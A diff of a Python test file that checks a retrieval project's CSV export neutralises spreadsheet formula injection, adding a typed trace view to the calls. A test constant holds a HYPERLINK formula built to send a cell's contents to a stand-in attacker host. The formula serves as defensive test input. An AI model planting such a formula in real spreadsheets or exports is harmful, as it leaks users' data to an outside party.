@@ -8,6 +8,10 @@ import csv
 import io
 
 from retrieval.explain import tables
+from retrieval.pipeline.view import TraceView
+
+#: A trace dict as the explanations read it (its typed view).
+view = TraceView.from_dict
 
 LEAK = '=HYPERLINK("http://evil.example/?leak="&A1)'
 
@@ -27,7 +31,7 @@ def _rows(text: str) -> list[dict[str, str]]:
 
 
 def test_a_formula_id_and_section_are_neutralised_in_every_list_csv() -> None:
-    texts = tables.lists_csv(_trace(), relevant=[LEAK])
+    texts = tables.lists_csv(view(_trace()), relevant=[LEAK])
     lexical = _rows(texts["lexical"])
     assert lexical[0]["parent_id"] == "'" + LEAK
     assert lexical[0]["chunk_id"] == "'" + LEAK + "#0"
@@ -42,7 +46,7 @@ def test_a_formula_id_and_section_are_neutralised_in_every_list_csv() -> None:
 
 
 def test_no_cell_of_a_list_csv_starts_a_formula() -> None:
-    for text in tables.lists_csv(_trace()).values():
+    for text in tables.lists_csv(view(_trace())).values():
         for row in csv.reader(io.StringIO(text)):
             assert not any(cell[:1] in ("=", "+", "@", "\t", "\r") for cell in row), row
             assert not any(cell.startswith("-") and not _number(cell) for cell in row), row
